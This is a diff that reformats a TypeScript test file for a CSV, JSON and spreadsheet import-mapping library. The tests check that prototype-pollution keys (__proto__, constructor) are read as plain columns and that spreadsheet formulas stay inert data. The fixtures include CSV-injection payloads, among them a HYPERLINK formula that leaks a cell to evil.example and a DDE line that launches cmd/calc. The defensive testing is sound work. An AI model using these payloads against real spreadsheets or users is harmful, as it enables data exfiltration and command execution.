@@ -1,7 +1,14 @@
 import * as XLSX from 'xlsx';
 
 import { readRows } from '../../../lib/files';
-import { MappingError, buildMappingTemplate, mappingFromFieldList, readMappingWorkbook, rowsFromObjects, type FieldListEntry } from '../../../lib/mapping';
+import {
+	MappingError,
+	buildMappingTemplate,
+	mappingFromFieldList,
+	readMappingWorkbook,
+	rowsFromObjects,
+	type FieldListEntry,
+} from '../../../lib/mapping';
 import { mapCsv, runMapping } from './run-mapping';
 
 const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();
@@ -15,27 +22,55 @@ function expectPrototypeUntouched() {
 }
 
 function customers(entries: FieldListEntry[], keepUnmappedColumns = false) {
-	return mappingFromFieldList('customer', [{ target: 'customer_id', source: 'ID' }, ...entries, { target: 'email', source: 'Email', mayBeAbsent: true }], [], { keepUnmappedColumns });
+	return mappingFromFieldList(
+		'customer',
+		[
+			{ target: 'customer_id', source: 'ID' },
+			...entries,
+			{ target: 'email', source: 'Email', mayBeAbsent: true },
+		],
+		[],
+		{ keepUnmappedColumns },
+	);
 }
 
 afterEach(expectPrototypeUntouched);
 
 describe('prototype names in exports and mappings', () => {
 	test('a CSV with __proto__, constructor and prototype columns, kept as unmapped columns, gives a plain record', async () => {
-		const csv = 'ID,__proto__,constructor,prototype,Loyalty Tier\nC1,"{""polluted"":""yes""}",polluted,polluted,Gold\n';
+		const csv =
+			'ID,__proto__,constructor,prototype,Loyalty Tier\nC1,"{""polluted"":""yes""}",polluted,polluted,Gold\n';
 		const { records, rejected } = await mapCsv(csv, customers([], true));
 		expect(rejected).toEqual([]);
 		expect(records).toHaveLength(1);
 		const [record] = records;
 		expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
-		expect(record.custom).toEqual({ proto: '{"polluted":"yes"}', constructor_: 'polluted', prototype_: 'polluted', loyalty_tier: 'Gold' });
+		expect(record.custom).toEqual({
+			proto: '{"polluted":"yes"}',
+			constructor_: 'polluted',
+			prototype_: 'polluted',
+			loyalty_tier: 'Gold',
+		});
 		expect(Object.getPrototypeOf(record.custom)).toBe(Object.prototype);
 		expect(Object.keys(record)).toEqual(['customer_id', 'custom', '_source']);
 	});
 
 	test('a column named __proto__ can be mapped to a field like any other', async () => {
-		const { records } = await mapCsv('ID,__proto__,constructor\nC1,Gold,Grantham\n', customers([{ target: 'custom.tier', source: '__proto__' }, { target: 'town', source: 'constructor' }]));
-		expect(records).toEqual([{ customer_id: 'C1', town: 'Grantham', custom: { tier: 'Gold' }, _source: { file: 'export.csv', lines: [2] } }]);
+		const { records } = await mapCsv(
+			'ID,__proto__,constructor\nC1,Gold,Grantham\n',
+			customers([
+				{ target: 'custom.tier', source: '__proto__' },
+				{ target: 'town', source: 'constructor' },
+			]),
+		);
+		expect(records).toEqual([
+			{
+				customer_id: 'C1',
+				town: 'Grantham',
+				custom: { tier: 'Gold' },
+				_source: { file: 'export.csv', lines: [2] },
+			},
+		]);
 	});
 
 	test('mapping targets custom.__proto__, custom.constructor and __proto__ are refused before any row is read', async () => {
@@ -45,7 +80,13 @@ describe('prototype names in exports and mappings', () => {
 			{ target: '__proto__', source: 'C' },
 			{ target: 'custom.prototype', source: 'D' },
 		]);
-		const error = await runMapping([{ kind: 'header', values: ['ID', 'A', 'B', 'C', 'D'] }, { kind: 'row', line: 2, values: ['C1', '{"polluted":1}', 'x', 'y', 'z'] }], mapping).then(
+		const error = await runMapping(
+			[
+				{ kind: 'header', values: ['ID', 'A', 'B', 'C', 'D'] },
+				{ kind: 'row', line: 2, values: ['C1', '{"polluted":1}', 'x', 'y', 'z'] },
+			],
+			mapping,
+		).then(
 			() => undefined,
 			(thrown: unknown) => thrown,
 		);
@@ -74,9 +115,21 @@ describe('prototype names in exports and mappings', () => {
 		);
 		expect(Object.getPrototypeOf(mapping.valueMaps)).toBe(Object.prototype);
 		expect(Object.keys(mapping.valueMaps)).toEqual(['__proto__', 'constructor']);
-		const { records, rejected } = await mapCsv('ID,Store,Town\nC1,LDN01,GRA\nC2,toString,hasOwnProperty\n', mapping);
-		expect(records).toEqual([{ customer_id: 'C1', town: 'Grantham', store_code: 'London', _source: { file: 'export.csv', lines: [2] } }]);
-		expect(rejected.map(({ line, rule, value }) => ({ line, rule, value }))).toEqual([{ line: 3, rule: 'map.unmatched', value: 'toString' }]);
+		const { records, rejected } = await mapCsv(
+			'ID,Store,Town\nC1,LDN01,GRA\nC2,toString,hasOwnProperty\n',
+			mapping,
+		);
+		expect(records).toEqual([
+			{
+				customer_id: 'C1',
+				town: 'Grantham',
+				store_code: 'London',
+				_source: { file: 'export.csv', lines: [2] },
+			},
+		]);
+		expect(rejected.map(({ line, rule, value }) => ({ line, rule, value }))).toEqual([
+			{ line: 3, rule: 'map.unmatched', value: 'toString' },
+		]);
 	});
 
 	test('a value map named __proto__ in a mapping workbook is an ordinary map', async () => {
@@ -84,11 +137,21 @@ describe('prototype names in exports and mappings', () => {
 		const customersSheet = workbook.Sheets.Customers;
 		const rows = XLSX.utils.sheet_to_json<string[]>(customersSheet, { header: 1, defval: '' });
 		const row = rows.findIndex((cells) => cells[0] === 'store_code');
-		XLSX.utils.sheet_add_aoa(customersSheet, [['store_code', 'Store', '', '', '', '', 'Value map', '__proto__', 'Reject the row']], { origin: { r: row, c: 0 } });
+		XLSX.utils.sheet_add_aoa(
+			customersSheet,
+			[['store_code', 'Store', '', '', '', '', 'Value map', '__proto__', 'Reject the row']],
+			{ origin: { r: row, c: 0 } },
+		);
 		const idRow = rows.findIndex((cells) => cells[0] === 'customer_id');
-		XLSX.utils.sheet_add_aoa(customersSheet, [['customer_id', 'ID']], { origin: { r: idRow, c: 0 } });
+		XLSX.utils.sheet_add_aoa(customersSheet, [['customer_id', 'ID']], {
+			origin: { r: idRow, c: 0 },
+		});
 		const emailRow = rows.findIndex((cells) => cells[0] === 'email');
-		XLSX.utils.sheet_add_aoa(customersSheet, [['email', 'Email', '', '', '', '', '', '', '', '', 'Yes']], { origin: { r: emailRow, c: 0 } });
+		XLSX.utils.sheet_add_aoa(
+			customersSheet,
+			[['email', 'Email', '', '', '', '', '', '', '', '', 'Yes']],
+			{ origin: { r: emailRow, c: 0 } },
+		);
 		workbook.Sheets['Value Maps'] = XLSX.utils.aoa_to_sheet([
 			['Map', 'From', 'To'],
 			['__proto__', 'LDN01', 'London'],
@@ -103,20 +166,41 @@ describe('prototype names in exports and mappings', () => {
 		]);
 		const { records, rejected } = await mapCsv('ID,Store\nC1,LDN01\nC2,valueOf\n', mapping);
 		expect(records.map((record) => record.store_code)).toEqual(['London']);
-		expect(rejected.map(({ rule, value }) => ({ rule, value }))).toEqual([{ rule: 'map.unmatched', value: 'valueOf' }]);
+		expect(rejected.map(({ rule, value }) => ({ rule, value }))).toEqual([
+			{ rule: 'map.unmatched', value: 'valueOf' },
+		]);
 	});
 
 	test('JSON rows with an own __proto__ key (from JSON.parse) are read as a column, not a prototype', async () => {
-		const items = JSON.parse('[{"ID":"C1","__proto__":{"polluted":"yes"},"Town":"Grantham"},{"ID":"C2","constructor":{"prototype":{"polluted":"yes"}}}]') as Array<Record<string, unknown>>;
+		const items = JSON.parse(
+			'[{"ID":"C1","__proto__":{"polluted":"yes"},"Town":"Grantham"},{"ID":"C2","constructor":{"prototype":{"polluted":"yes"}}}]',
+		) as Array<Record<string, unknown>>;
 		expect(Object.hasOwn(items[0], '__proto__')).toBe(true);
 		const rows = [...rowsFromObjects(items)];
 		expect(rows[0]).toEqual({ kind: 'header', values: ['ID', '__proto__', 'Town', 'constructor'] });
-		expect(rows[1]).toEqual({ kind: 'row', line: 1, values: ['C1', '{"polluted":"yes"}', 'Grantham', ''] });
+		expect(rows[1]).toEqual({
+			kind: 'row',
+			line: 1,
+			values: ['C1', '{"polluted":"yes"}', 'Grantham', ''],
+		});
 
-		const { records } = await runMapping(rowsFromObjects(items), customers([{ target: 'town', source: 'Town' }], true), 'items');
+		const { records } = await runMapping(
+			rowsFromObjects(items),
+			customers([{ target: 'town', source: 'Town' }], true),
+			'items',
+		);
 		expect(records).toEqual([
-			{ customer_id: 'C1', town: 'Grantham', custom: { proto: '{"polluted":"yes"}' }, _source: { file: 'items', lines: [1] } },
-			{ customer_id: 'C2', custom: { constructor_: '{"prototype":{"polluted":"yes"}}' }, _source: { file: 'items', lines: [2] } },
+			{
+				customer_id: 'C1',
+				town: 'Grantham',
+				custom: { proto: '{"polluted":"yes"}' },
+				_source: { file: 'items', lines: [1] },
+			},
+			{
+				customer_id: 'C2',
+				custom: { constructor_: '{"prototype":{"polluted":"yes"}}' },
+				_source: { file: 'items', lines: [2] },
+			},
 		]);
 	});
 
@@ -131,7 +215,10 @@ describe('prototype names in exports and mappings', () => {
 			[],
 			{ keepUnmappedColumns: true },
 		);
-		const { records } = await mapCsv('Receipt,Date,Item,__proto__\nR1,2026-07-01,Apron,"{""polluted"":1}"\nR1,2026-07-01,Bag,\n', mapping);
+		const { records } = await mapCsv(
+			'Receipt,Date,Item,__proto__\nR1,2026-07-01,Apron,"{""polluted"":1}"\nR1,2026-07-01,Bag,\n',
+			mapping,
+		);
 		expect(records).toHaveLength(1);
 		expect(records[0].custom).toEqual({ proto: '{"polluted":1}' });
 		expect(Object.getPrototypeOf(records[0].custom)).toBe(Object.prototype);
@@ -143,7 +230,7 @@ describe('spreadsheet formulas are data', () => {
 		const csv = [
 			'ID,Name,Town,Note',
 			'C1,=1+1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",@SUM(A1:A9)',
-			'C2,+44 cmd,-2+3,=cmd|\' /C calc\'!A0',
+			"C2,+44 cmd,-2+3,=cmd|' /C calc'!A0",
 			'',
 		].join('\n');
 		const mapping = customers([
@@ -153,7 +240,11 @@ describe('spreadsheet formulas are data', () => {
 		]);
 		const { records } = await mapCsv(csv, mapping);
 		expect(records.map(({ full_name, town, custom }) => ({ full_name, town, custom }))).toEqual([
-			{ full_name: '=1+1', town: '=HYPERLINK("http://evil.example/?"&A1,"Click")', custom: { note: '@SUM(A1:A9)' } },
+			{
+				full_name: '=1+1',
+				town: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+				custom: { note: '@SUM(A1:A9)' },
+			},
 			{ full_name: '+44 cmd', town: '-2+3', custom: { note: "=cmd|' /C calc'!A0" } },
 		]);
 	});
@@ -170,14 +261,22 @@ describe('spreadsheet formulas are data', () => {
 		XLSX.utils.book_append_sheet(workbook, sheet, 'Sales');
 		const bytes = XLSX.write(workbook, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
 
-		const mapping = mappingFromFieldList('transaction', [
-			{ target: 'order_id', source: 'Receipt' },
-			{ target: 'purchase_date', source: 'Date', format: 'yyyy-MM-dd' },
-			{ target: 'lines.name', source: 'Item' },
-			{ target: 'lines.qty', source: 'Qty' },
-			{ target: 'lines.unit_price', source: 'Price' },
-		], []);
-		const { records, rejected } = await runMapping(readRows(bytes, { fileName: 'sales.xlsx' }), mapping, 'sales.xlsx');
+		const mapping = mappingFromFieldList(
+			'transaction',
+			[
+				{ target: 'order_id', source: 'Receipt' },
+				{ target: 'purchase_date', source: 'Date', format: 'yyyy-MM-dd' },
+				{ target: 'lines.name', source: 'Item' },
+				{ target: 'lines.qty', source: 'Qty' },
+				{ target: 'lines.unit_price', source: 'Price' },
+			],
+			[],
+		);
+		const { records, rejected } = await runMapping(
+			readRows(bytes, { fileName: 'sales.xlsx' }),
+			mapping,
+			'sales.xlsx',
+		);
 		expect(rejected).toEqual([]);
 		expect(records).toHaveLength(1);
 		expect(records[0].lines).toEqual([{ name: 'Apron', qty: 5, unit_price: 3, line_total: 15 }]);
